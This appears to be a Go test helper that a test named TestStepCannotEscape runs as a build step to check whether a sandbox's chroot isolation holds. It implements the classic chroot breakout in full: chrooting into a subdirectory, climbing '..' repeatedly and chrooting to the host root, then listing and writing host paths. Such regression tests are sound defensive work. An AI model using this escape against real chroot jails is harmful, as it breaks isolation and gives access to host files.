// Command escape is the chroot(2) escape of issue 12, run as a build step by
// TestStepCannotEscape: as root inside a chroot, chroot into a subdirectory
// while the working directory stays outside it, climb "..", and chroot(".")
// at the top, which is the host's root when the step was entered by chroot.
// Then it writes os.Args[1] (a host path) and lists os.Args[2] (a host
// directory). It exits 0 when it wrote the file.
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	if err := os.MkdirAll("/.x", 0o700); err != nil {
		fmt.Println("mkdir:", err)
	}
	if err := syscall.Chroot("/.x"); err != nil {
		fmt.Println("chroot /.x:", err)
	}
	for i := 0; i < 256; i++ {
		syscall.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		fmt.Println("chroot .:", err)
	}
	if ents, err := os.ReadDir(os.Args[2]); err == nil {
		fmt.Println("listed", os.Args[2], len(ents), "entries")
	}
	if err := os.WriteFile(os.Args[1], []byte("escaped\n"), 0o644); err != nil {
		fmt.Println("write:", err)
		os.Exit(1)
	}
	fmt.Println("wrote", os.Args[1])
}
